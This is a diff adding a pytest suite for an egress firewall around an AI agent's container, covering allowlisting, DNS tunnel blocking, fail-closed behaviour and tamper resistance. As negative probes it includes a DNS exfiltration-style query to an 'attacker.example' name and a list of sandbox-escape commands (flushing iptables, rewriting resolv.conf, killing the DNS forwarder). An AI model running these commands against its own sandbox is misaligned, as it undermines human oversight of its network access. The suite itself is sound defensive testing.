@@ -1,0 +1,384 @@
+"""The egress firewall against the offline test internet (real engine, real iptables/dnsmasq).
+
+What issue 6 lists: allowlist over IPv4 and IPv6, fast REJECT, NXDOMAIN, no DNS tunnel, address
+rotation, compose network and gate, fail closed (dead forwarder, broken file, missing tool),
+and that the agent's user cannot change any of it.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from conftest import TEST_LABEL, unique_name
+
+from firewall.conftest import Claude, Internet
+
+VENV_PYTHON = "/opt/sidecar/bin/python"
+DNS_QUERY = r"""
+import random, socket, struct, sys
+name, server, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+query = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
+query += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+query += struct.pack(">HH", 1, 1)
+s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(4)
+try:
+    s.connect((server, port))
+    s.send(query)
+    data = s.recv(2048)
+except socket.timeout:
+    print("TIMEOUT")
+except OSError as exc:
+    print("REFUSED", type(exc).__name__)
+else:
+    print("RCODE", data[3] & 15, "ANSWERS", struct.unpack(">H", data[6:8])[0])
+"""
+
+
+def dns(claude: Claude, name: str, server: str = "127.0.0.1", port: int = 53,
+        user: str = "claude") -> str:
+    """Send one A query; return 'RCODE n ANSWERS m', 'REFUSED ...' or 'TIMEOUT'."""
+    result = claude.container.exec_run(["python3", "-c", DNS_QUERY, name, server, str(port)],
+                                       user=user)
+    return str(result.output.decode().strip())
+
+
+def http(claude: Claude, url: str, *flags: str) -> tuple[int, str]:
+    """curl as the agent's user: (curl exit code, body). 7 = refused, 28 = timed out."""
+    flag_text = " ".join(flags)
+    _, out = claude.sh(f"curl -sS -g {flag_text} --connect-timeout 5 -m 8 '{url}' 2>&1; "
+                          "echo \" exit=$?\"")
+    match = re.search(r" exit=(\d+)\s*$", out)
+    assert match, out
+    return int(match.group(1)), out[: match.start()].strip()
+
+
+def resolves(claude: Claude, name: str) -> list[str]:
+    """Addresses getaddrinfo returns for `name` as the agent (through resolv.conf)."""
+    _, out = claude.py(
+        "import socket, sys\n"
+        "try:\n"
+        "    print(' '.join(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 80)})))\n"
+        "except socket.gaierror as e:\n"
+        "    print('ERR', e.errno)\n".replace("sys.argv[1]", repr(name)))
+    return [] if out.startswith("ERR") else out.split()
+
+
+@pytest.fixture
+def claude(start_claude: Callable[..., Claude]) -> Claude:
+    """The default firewalled container: allowed.test allowed."""
+    return start_claude()
+
+
+def test_allowed_reachable_over_ipv4_and_ipv6(claude: Claude, internet: Internet) -> None:
+    v4, v6 = internet.addresses["allowed"]
+    assert sorted(resolves(claude, "allowed.test")) == sorted([v4, v6])
+    assert http(claude, "http://allowed.test/", "-4") == (0, "allowed")
+    assert http(claude, "http://allowed.test/", "-6") == (0, "allowed")
+    # Subdomains of an allowed domain are allowed too.
+    assert http(claude, "http://www.allowed.test/", "-4") == (0, "allowed")
+    assert "enforcing" in claude.logs()
+
+
+def test_blocked_refused_fast_over_both_families(claude: Claude, internet: Internet) -> None:
+    assert resolves(claude, "blocked.test") == []
+    assert http(claude, "http://blocked.test/")[0] == 6  # could not resolve
+    v4, v6 = internet.addresses["blocked"]
+    # Raw addresses: REJECT answers at once (curl exit 7), a DROP would time out (exit 28).
+    for url in (f"http://{v4}/", f"http://[{v6}]/"):
+        code, body = http(claude, url)
+        assert code == 7, (url, body)
+        assert "Couldn't connect" in body or "Connection refused" in body
+    # Root in the container is filtered the same way (only DNS is special-cased for root).
+    code, _ = claude.sh(f"curl -sS --connect-timeout 5 http://{v4}/", user="root")
+    assert code == 7
+
+
+def test_dns_nxdomain_and_no_tunnel(claude: Claude, internet: Internet) -> None:
+    assert dns(claude, "allowed.test") == "RCODE 0 ANSWERS 1"
+    assert dns(claude, "blocked.test").startswith("RCODE 3 ")  # NXDOMAIN
+    assert dns(claude, "secret-data.attacker.example").startswith("RCODE 3 ")
+    # Control: the rogue resolver answers on a non-DNS port of the compose network...
+    rogue_proj = internet.addresses["rogue-proj"][0]
+    assert dns(claude, "x.example", rogue_proj, 5353).startswith("RCODE")
+    # ...but no query reaches any other resolver: not on the compose network, not on the
+    # internet (v4 and v6), not Docker's embedded DNS, which would forward any name.
+    rogue_v4, rogue_v6 = internet.addresses["rogue-inet"]
+    for server in (rogue_proj, rogue_v4, rogue_v6, "127.0.0.11"):
+        assert dns(claude, "secret.example", server).startswith("REFUSED"), server
+
+
+def test_rotation_needs_only_a_new_lookup(claude: Claude, internet: Internet) -> None:
+    assert http(claude, "http://allowed.test/", "-4") == (0, "allowed")
+    old_v4, _ = internet.addresses["allowed"]
+    new_v4, new_v6 = internet.web("allowed", ["allowed.test", "www.allowed.test"], "rotated")
+    try:
+        assert new_v4 != old_v4
+        # The next lookup returns the new addresses and allows them, with no restart.
+        assert http(claude, "http://allowed.test/", "-4") == (0, "rotated")
+        assert http(claude, "http://allowed.test/", "-6") == (0, "rotated")
+        assert http(claude, f"http://[{new_v6}]/") == (0, "rotated")
+    finally:
+        internet.web("allowed", ["allowed.test", "www.allowed.test"], "allowed")
+
+
+def test_compose_network_reachable(claude: Claude) -> None:
+    # Single-label names (compose services, the gate) resolve through the forwarder.
+    assert http(claude, "http://app/") == (0, "app")
+
+
+def test_routed_command_through_the_gate(start_claude: Callable[..., Claude],
+                                         internet: Internet, docker_client: Any,
+                                         tmp_path: Any) -> None:
+    app = docker_client.containers.run(
+        "sidecar-test/busybox:latest", ["sleep", "600"], detach=True, init=True,
+        name=unique_name("sidecar-fw-target"), labels={TEST_LABEL: "1"},
+        network=internet.proj.name)
+    gate = None
+    try:
+        work = tmp_path / "gatework" / ".sidecar"
+        work.mkdir(parents=True)
+        (work / "bridge.yaml").write_text(
+            'version: "1"\n'
+            f"containers:\n  app: {app.name}\n"
+            "commands:\n  hello:\n    container: app\n    exec: echo\n    workdir: /\n")
+        gate = docker_client.containers.create(
+            internet.image, ["sidecar", "proxy", "--config", "/cfg/.sidecar/bridge.yaml"],
+            entrypoint=[], user="root", name=unique_name("sidecar-fw-gate"),
+            labels={TEST_LABEL: "1"},
+            volumes={"/var/run/docker.sock": {"bind": "/var/run/docker.sock", "mode": "ro"},
+                     str(work.parent): {"bind": "/cfg", "mode": "ro"}},
+            network=internet.proj.name)
+        internet.proj.disconnect(gate)
+        internet.proj.connect(gate, aliases=["sidecar-gate"])
+        gate.start()
+        claude = start_claude(volumes={str(work): {"bind": "/workspace/.sidecar-gate",
+                                                   "mode": "ro"}},
+                              env={"SIDECAR_CONFIG_DIR": "/workspace/.sidecar-gate"},
+                              domains=None)
+        # allowed-domains.txt is missing in that config dir: the firewall failed closed, and
+        # the compose network (the gate, the services) still works.
+        assert "FIREWALL FAILED CLOSED" in claude.logs()
+        code, out = claude.sh("for i in $(seq 50); do hello routed ok && exit 0; sleep 0.2; "
+                              "done; exit 1")
+        assert code == 0, out
+        assert out.strip().splitlines()[-1] == "routed ok"
+    finally:
+        for container in (gate, app):
+            if container is not None:
+                container.remove(force=True)
+
+
+def test_routed_command_with_the_firewall_enforcing(start_claude: Callable[..., Claude],
+                                                    internet: Internet, docker_client: Any,
+                                                    tmp_path: Any) -> None:
+    app = docker_client.containers.run(
+        "sidecar-test/busybox:latest", ["sleep", "600"], detach=True, init=True,
+        name=unique_name("sidecar-fw-target"), labels={TEST_LABEL: "1"},
+        network=internet.proj.name)
+    gate = None
+    try:
+        work = tmp_path / "cfg" / ".sidecar"
+        work.mkdir(parents=True)
+        (work / "bridge.yaml").write_text(
+            'version: "1"\n'
+            f"containers:\n  app: {app.name}\n"
+            "commands:\n  hello:\n    container: app\n    exec: echo\n    workdir: /\n")
+        (work / "allowed-domains.txt").write_text("allowed.test\n")
+        gate = docker_client.containers.create(
+            internet.image, ["sidecar", "proxy", "--config", "/cfg/.sidecar/bridge.yaml"],
+            entrypoint=[], user="root", name=unique_name("sidecar-fw-gate"),
+            labels={TEST_LABEL: "1"},
+            volumes={"/var/run/docker.sock": {"bind": "/var/run/docker.sock", "mode": "ro"},
+                     str(work.parent): {"bind": "/cfg", "mode": "ro"}},
+            network=internet.proj.name)
+        internet.proj.disconnect(gate)
+        internet.proj.connect(gate, aliases=["sidecar-gate"])
+        gate.start()
+        claude = start_claude(volumes={str(work): {"bind": "/workspace/.sidecar", "mode": "ro"}},
+                              domains=None)
+        assert "firewall enforcing" in claude.logs()
+        code, out = claude.sh("for i in $(seq 50); do hello routed ok && exit 0; sleep 0.2; "
+                              "done; exit 1")
+        assert code == 0, out
+        assert out.strip().splitlines()[-1] == "routed ok"
+        assert claude.sh("test -e /var/run/docker.sock")[0] == 1
+    finally:
+        for container in (gate, app):
+            if container is not None:
+                container.remove(force=True)
+
+
+def test_killed_forwarder_fails_closed(claude: Claude, internet: Internet) -> None:
+    assert http(claude, "http://allowed.test/", "-4") == (0, "allowed")
+    code, _ = claude.sh("kill $(cat /run/sidecar/firewall/dnsmasq.pid)", user="root")
+    assert code == 0
+    code, report = claude.sh("sidecar firewall status", user="root")
+    assert code == 1, report
+    assert "state:      degraded" in report
+    assert "NOT running" in report
+    # Nothing resolves any more, and nothing new is allowed.
+    assert resolves(claude, "allowed.test") == []
+    assert dns(claude, "www.allowed.test").startswith("REFUSED")
+    v4, _ = internet.addresses["blocked"]
+    assert http(claude, f"http://{v4}/")[0] == 7
+
+
+@pytest.mark.parametrize("content", [
+    "allowed.test\nhttps://evil.example/path\n",
+    "allowed.test\n*.wild.example\n",
+    "\udcff".encode("utf-8", "surrogateescape").decode("latin-1") + "\n",
+])
+def test_broken_domains_file_fails_closed(start_claude: Callable[..., Claude],
+                                          internet: Internet, content: str) -> None:
+    claude = start_claude(domains=content)
+    logs = claude.logs()
+    assert "FIREWALL FAILED CLOSED" in logs
+    assert logs.count("FIREWALL FAILED CLOSED") == 1
+    _assert_locked_down(claude, internet)
+
+
+def test_missing_domains_file_fails_closed(start_claude: Callable[..., Claude],
+                                           internet: Internet) -> None:
+    claude = start_claude(domains=None)
+    assert "allowed-domains.txt: No such file or directory" in claude.logs()
+    _assert_locked_down(claude, internet)
+
+
+@pytest.mark.parametrize("tool", ["/usr/sbin/dnsmasq", "/usr/sbin/ipset"])
+def test_missing_tool_fails_closed(start_claude: Callable[..., Claude], internet: Internet,
+                                   tool: str) -> None:
+    # /dev/null over the binary: present but not executable, as good as missing.
+    claude = start_claude(volumes={"/dev/null": {"bind": tool, "mode": "ro"}})
+    logs = claude.logs()
+    assert "FIREWALL FAILED CLOSED" in logs
+    assert tool.rsplit("/", 1)[1] in logs.split("FIREWALL FAILED CLOSED", 1)[1].splitlines()[0]
+    _assert_locked_down(claude, internet)
+
+
+def test_no_net_admin_fails_closed_without_iptables(start_claude: Callable[..., Claude],
+                                                    internet: Internet) -> None:
+    # Without NET_ADMIN nothing can be enforced nor locked down: the log says so loudly.
+    claude = start_claude(cap=False)
+    logs = claude.logs()
+    assert "firewall command failed" in logs
+    assert "egress is NOT blocked" in logs
+
+
+def test_no_iptables_drops_the_default_routes(start_claude: Callable[..., Claude]) -> None:
+    # Neither the rules nor the lockdown can load: the entrypoint's last resort removes the
+    # default routes, so only directly attached (compose) networks stay reachable.
+    claude = start_claude(volumes={"/dev/null": {"bind": "/usr/sbin/xtables-nft-multi",
+                                                 "mode": "ro"}})
+    logs = claude.logs()
+    assert "lockdown rules could not be loaded" in logs
+    assert "firewall failed: default routes removed, only the compose network is reachable" in logs
+    code, routes = claude.sh("ip -4 route show default; ip -6 route show default")
+    assert (code, routes.strip()) == (0, "")
+    code, report = claude.sh("sidecar firewall status", user="root")
+    assert code == 1
+    assert "state:      failed" in report
+
+
+def _assert_locked_down(claude: Claude, internet: Internet) -> None:
+    code, report = claude.sh("sidecar firewall status", user="root")
+    assert code == 1
+    assert "state:      lockdown" in report
+    for key in ("allowed", "blocked"):
+        v4, v6 = internet.addresses[key]
+        assert http(claude, f"http://{v4}/")[0] == 7
+        assert http(claude, f"http://[{v6}]/")[0] == 7
+    assert http(claude, "http://allowed.test/")[0] in (6, 7)
+    # The compose network stays reachable: services, the gate.
+    assert http(claude, "http://app/") == (0, "app")
+
+
+def test_agent_cannot_change_the_firewall(claude: Claude) -> None:
+    for script in ("iptables -F OUTPUT", "ip6tables -P OUTPUT ACCEPT", "ipset flush sidecar-allow4",
+                   "echo nameserver 1.1.1.1 > /etc/resolv.conf",
+                   "echo server=/#/127.0.0.11 >> /run/sidecar/firewall/dnsmasq.conf",
+                   "kill $(cat /run/sidecar/firewall/dnsmasq.pid)",
+                   "sidecar firewall up"):
+        code, out = claude.sh(script)
+        assert code != 0, (script, out)
+    # The workspace copy of the allowlist is read once, at start: editing it changes nothing.
+    code, _ = claude.sh("echo blocked.test >> /workspace/.sidecar/allowed-domains.txt")
+    assert code == 0
+    assert resolves(claude, "blocked.test") == []
+    code, report = claude.sh("sidecar firewall status --json", user="root")
+    assert code == 0, report
+    status = json.loads(report)
+    assert status["state"] == "enforcing"
+    assert status["domains"] == ["allowed.test"]
+
+
+def test_status_as_root_and_as_the_agent(claude: Claude) -> None:
+    assert http(claude, "http://allowed.test/", "-4")[0] == 0
+    assert http(claude, "http://allowed.test/", "-6")[0] == 0
+    code, report = claude.sh("sidecar firewall status --json", user="root")
+    assert code == 0, report
+    status = json.loads(report)
+    assert status["healthy"] is True
+    assert status["forwarder_alive"] is True
+    assert status["rules_v4"] is True and status["rules_v6"] is True
+    assert status["set_sizes"]["sidecar-allow4"] >= 1
+    assert status["set_sizes"]["sidecar-allow6"] >= 1
+    code, report = claude.sh("sidecar firewall status")
+    assert code == 0, report
+    assert "state:      enforcing" in report
+    assert "unknown (run as root)" in report
+
+
+def test_firewall_disabled_means_unfiltered(start_claude: Callable[..., Claude],
+                                            internet: Internet) -> None:
+    claude = start_claude(env={"SIDECAR_FIREWALL": "0"}, cap=False)
+    assert "firewall disabled by bridge.yaml" in claude.logs()
+    v4, _ = internet.addresses["blocked"]
+    assert http(claude, f"http://{v4}/") == (0, "blocked")
+    code, report = claude.sh("sidecar firewall status")
+    assert code == 0
+    assert "disabled" in report
+
+
+def test_github_ranges_are_allowed_once_added(claude: Claude, internet: Internet) -> None:
+    v4, v6 = internet.addresses["blocked"]
+    assert http(claude, f"http://{v4}/")[0] == 7
+    # Stand in for api.github.com/meta (offline): ranges covering the "blocked" host.
+    code, out = claude.py(
+        "from sidecar_gen.firewall import add_github_ranges\n"
+        f"print(add_github_ranges({{'web': ['{v4}/32'], 'git': ['{v6}/128']}}))", user="root",
+        python=VENV_PYTHON)
+    assert (code, out.strip()) == (0, "2")
+    assert http(claude, f"http://{v4}/") == (0, "blocked")
+    assert http(claude, f"http://[{v6}]/") == (0, "blocked")
+    # The agent cannot add ranges itself.
+    code, _ = claude.py("from sidecar_gen.firewall import add_github_ranges\n"
+                        "add_github_ranges({'web': ['0.0.0.0/1']})", python=VENV_PYTHON)
+    assert code != 0
+
+
+def test_github_meta_unreachable_is_one_line(claude: Claude) -> None:
+    # The test internet has no GitHub: the background fetch fails with one clear line.
+    code, out = claude.sh("sidecar firewall github", user="root")
+    assert code == 1
+    assert out.startswith("sidecar: error: github: https://api.github.com/meta not reachable")
+    assert len(out.strip().splitlines()) == 1
+
+
+def test_restart_sets_the_firewall_up_again(claude: Claude) -> None:
+    assert http(claude, "http://allowed.test/", "-4") == (0, "allowed")
+    claude.container.restart(timeout=10)
+    deadline = time.monotonic() + 30
+    while claude.logs().count("ready (uid") < 2 and time.monotonic() < deadline:
+        time.sleep(0.1)
+    logs = claude.logs()
+    assert logs.count("firewall enforcing") == 2, logs
+    assert http(claude, "http://allowed.test/", "-6") == (0, "allowed")
+    assert resolves(claude, "blocked.test") == []
+    code, report = claude.sh("sidecar firewall status", user="root")
+    assert code == 0, report
